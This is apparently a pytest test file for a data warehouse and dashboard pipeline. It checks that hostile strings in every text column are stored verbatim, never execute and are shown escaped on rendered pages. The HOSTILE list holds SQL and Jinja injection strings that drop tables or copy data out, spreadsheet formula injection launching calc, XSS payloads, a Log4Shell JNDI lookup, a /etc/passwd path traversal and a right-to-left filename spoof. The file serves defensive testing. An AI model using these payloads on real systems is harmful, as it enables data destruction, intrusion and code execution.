"""Hostile texts are stored as what they are and shown escaped; nothing of them runs.

Every text column of every raw table carries them in turn, in CSV, in Parquet and in webhooks, into one build each.
"""

import html
import html.parser
from pathlib import Path

import duckdb
import pytest

import dashboard
import publish
import raw_rows as rows
import scorecard_svg
import warehouse as warehouses
from conftest import ROOT, Figure
from warehouse import SALT, Warehouse
from webhook_bodies import body, message, status

HOSTILE = [
    "'); drop table marts.fct_messages; --",
    "' or '1'='1' union select * from raw.contacts --",
    "\"; attach 'stolen.duckdb'; copy (select 1) to 'stolen.csv'; --",
    "{{ env_var('CONTACT_KEY_SALT') }}",
    "{% do run_query('drop schema marts cascade') %}",
    "{# a comment that eats #}",
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "${jndi:ldap://example.org/a}",
    "../../etc/passwd",
    "\u202egnp.exe\u202c", "\u200f\u061c\u2066مرحبا\u2069",
    "e\u0301\u0327" + "\u0300" * 200,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "\ufeffbyte order mark", "\u2028line\u2029separators", "zero\u200bwidth", "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "a\x01\x02\x1b[31mred\x1b[0m\x7f", "\x1f joined \x1f cells", "tab\tand\r\nnew\nlines",
    "\\N", "NULL", "nan", "''''", '""""', "%s %d {0} $1 ?",
]  # fmt: skip
LONG = "<b>" + "ñ" * 524_288 + "</b>"  # a megabyte in UTF-8
NUL = "before\0after"

# The text columns whose values are open, by table: what stands in them is stored as it came.
OPEN = {
    "messages": ["message_id", "conversation_id", "contact_id", "business_phone_id", "agent_id", "campaign_id",
                 "template_name", "template_category", "message_type", "body", "reply_to_message_id"],
    "message_statuses": ["message_id", "pricing_category", "platform_conversation_id", "error_code"],
    "conversations": ["conversation_id", "contact_id", "business_phone_id", "topic", "assigned_agent_id"],
    "conversation_events": ["event_id", "conversation_id", "agent_id"],
    "surveys": ["survey_id", "conversation_id", "order_id", "contact_id", "comment"],
    "orders": ["order_id", "contact_id", "conversation_id", "campaign_id"],
    "contacts": ["contact_id"],
    "contact_merges": ["old_contact_id", "new_contact_id"],
    "consents": ["consent_id", "contact_id", "source"],
    "campaigns": ["campaign_id", "campaign_name"],
    "campaign_costs": ["campaign_id"],
    "link_clicks": ["click_id", "message_id", "contact_id"],
    "leads": ["lead_id", "contact_id", "conversation_id"],
    "carts": ["cart_id", "contact_id", "conversation_id", "order_id"],
    "agents": ["agent_id", "agent_name", "team"],
}  # fmt: skip
KEYS = {table: next(iter(make())) for table, make in rows.TABLES.items()}


def hostile_rows(texts: list[str]) -> dict[str, list[rows.Row]]:
    """A row for each text and table, with the text in every open column; ids get the text's number to stay apart."""
    tables: dict[str, list[rows.Row]] = {}
    for table, columns in OPEN.items():
        extra = {"answered_at": rows.SENT, "score": 5} if table == "surveys" else {}
        tables[table] = [
            rows.TABLES[table](**extra) | {column: text for column in columns} | special(table, text, number)
            for number, text in enumerate(texts)
        ]
    return tables


def special(table: str, text: str, number: int) -> rows.Row:
    """What keeps rows good: merges lead from one id to another."""
    return {"old_contact_id": f"old {number} {text}"} if table == "contact_merges" else {}


def in_csv(folder: Path) -> Path:
    return rows.write_raw(folder, hostile_rows([*HOSTILE, LONG]))


def in_parquet(folder: Path) -> Path:
    """Also NUL, which a CSV file cannot hold."""
    folder.mkdir()
    with duckdb.connect() as connection:
        for table, given in hostile_rows([*HOSTILE, LONG, NUL]).items():
            columns = list(given[0])
            connection.execute(f"create table t ({', '.join(f'{column} varchar' for column in columns)})")
            connection.executemany(
                f"insert into t values ({', '.join('?' * len(columns))})",
                [[None if cell is None else rows.as_text(cell) for cell in row.values()] for row in given],
            )
            connection.execute(f"copy t to '{folder}/{table}.parquet' (format parquet); drop table t")
    return folder


@pytest.fixture(scope="module", params=["csv", "parquet"])
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Warehouse]:
    folder = tmp_path_factory.mktemp(request.param)
    raw = (in_csv if request.param == "csv" else in_parquet)(folder / "raw")
    settings = {"raw_format": request.param}
    return request.param, warehouses.build(folder, raw, settings, select="resource_type:model resource_type:seed")


def texts_of(raw_format: str) -> list[str]:
    return [*HOSTILE, LONG, *([NUL] if raw_format == "parquet" else [])]


def test_every_text_is_stored_as_it_came(hostile: tuple[str, Warehouse], figure: Figure):
    raw_format, warehouse = hostile
    texts = texts_of(raw_format)
    for table, columns in OPEN.items():
        assert warehouse.query(f"select count(*) from staging.stg_{table}") == [(len(texts),)], table
        for column in columns:
            if column == "old_contact_id":
                continue
            found = {cell for (cell,) in warehouse.query(f'select "{column}" from staging.stg_{table}')}
            assert found == set(texts), (table, column)
            figure("hostile", f"text cells of {raw_format} kept as they came", len(texts))
    assert warehouse.query("select count(*) from marts.rejected_rows") == [(0,)]
    assert warehouse.query("select sum(rows_in - rows_kept) from marts.load_audit") == [(0,)]


def test_the_marts_hold_them_as_texts(hostile: tuple[str, Warehouse]):
    raw_format, warehouse = hostile
    texts = set(texts_of(raw_format))
    for column, mart in [
        ("campaign_name", "dim_campaigns"), ("agent_name", "dim_agents"), ("topic", "fct_conversations"),
        ("template_name", "fct_messages"), ("agent_id", "fct_messages"), ("business_phone_id", "fct_messages"),
    ]:  # fmt: skip
        assert {cell for (cell,) in warehouse.query(f"select {column} from marts.{mart}")} <= texts | {None}, column
        assert warehouse.query(f"select count(distinct {column}) > 5 from marts.{mart}") == [(True,)], column
    campaigns = warehouse.query("select distinct slice_value from marts.kpi_values where slice = 'campaign'")
    assert {value for (value,) in campaigns} <= texts | {"(none)"}


def test_nothing_of_them_ran(hostile: tuple[str, Warehouse]):
    _, warehouse = hostile
    assert not [path for path in (*ROOT.glob("stolen*"), *warehouse.folder.rglob("stolen*"), *Path.cwd().glob("stolen*"))]
    assert warehouse.query("select count(*) > 20 from duckdb_tables() where schema_name = 'marts'") == [(True,)]
    written = [path for path in warehouse.folder.rglob("*") if path.is_file()]
    assert [path for path in written if SALT.encode() in path.read_bytes()] == []


def test_webhooks_with_hostile_texts(tmp_path: Path, figure: Figure):
    """In every text of a message, and in ids; NUL and half a surrogate pair become U+FFFD, or the whole text is kept."""
    texts = [*HOSTILE, LONG, NUL]
    bodies = [
        body(
            messages=[message(id=f"wamid.{n}", content={"body": text}), message("button", {"text": text}, id=f"b{n}")],
            statuses=[status(id=text, recipient_id=text, errors=[{"code": text}])],
        )
        for n, text in enumerate(texts)
    ]
    halves = [
        body(messages=[message(id=f"half{n}", content={"body": "HALF"})]).replace("HALF", text)
        for n, text in enumerate([r"\ud83d", r"cut \ud83d", r"\udc00 first", r"\ud83d\ude00 whole"])
    ]
    raw = rows.write_raw(tmp_path / "raw", {"webhooks": [rows.webhook(payload=text) for text in bodies + halves]})
    warehouse = warehouses.build(tmp_path, raw, select="resource_type:model resource_type:seed")
    found = dict(warehouse.query("select message_id, body from staging.stg_messages where direction = 'inbound'"))
    for number, text in enumerate(texts):
        for kept in (found[f"wamid.{number}"], found[f"b{number}"]):
            assert kept == text or (text == NUL and kept in (NUL, "before", "before\ufffdafter")), repr(text)[:60]
    assert {number: found[f"half{number}"] for number in range(4)} == {
        0: "\ufffd", 1: "cut \ufffd", 2: "\ufffd first", 3: "😀 whole",
    }  # fmt: skip
    uneven = "select * from marts.load_audit where rows_in != rows_kept + rows_copies + rows_rejected"
    assert warehouse.query(uneven) == []
    assert warehouse.query("select rows_kept from marts.load_audit where table_name = 'webhooks'")[0][0] == len(bodies) + 4
    figure("hostile", "webhook bodies read", len(bodies + halves))


class Tags(html.parser.HTMLParser):
    """The tags of a page and their attributes."""

    def __init__(self, text: str):
        super().__init__()
        self.found: list[tuple[str, list]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.found.append((tag, attrs))


def test_pages_and_pictures_show_them_as_texts(hostile: tuple[str, Warehouse], tmp_path: Path, figure: Figure):
    """What is rendered from the hostile marts has the tags and handlers that the demo's own names would give, no more."""
    raw_format, warehouse = hostile
    if raw_format == "csv":
        return  # the marts are the same
    shown = 0
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DO_NOT_TRACK", "1")
        done = publish.publish(warehouse.path, tmp_path / "published")
        dashboard.render(done.file, tmp_path / "dashboard")
    pages = {path.name: path.read_text(encoding="utf-8") for path in (tmp_path / "dashboard").glob("*.html")}
    pages["scorecard.svg"] = scorecard_svg.picture(str(warehouse.path))
    for name, page in pages.items():
        tags = Tags(page)
        assert not [tag for tag in tags.found if tag[0] in ("img", "iframe", "object", "embed") and dict(tag[1]).get("onerror")], name
        assert not [attrs for _, attrs in tags.found for key, value in attrs if "alert(" in (value or "")], name
        assert "<script>alert(" not in page and "<svg/onload" not in page and "</script>alert" not in page, name
        assert SALT not in page
        shown += sum(html.escape(text, quote=False) in page or html.escape(text) in page for text in HOSTILE)
    assert len(pages) > 10 and shown > 10, "the pages show none of the texts"
    figure("hostile", "texts shown escaped on pages", shown)
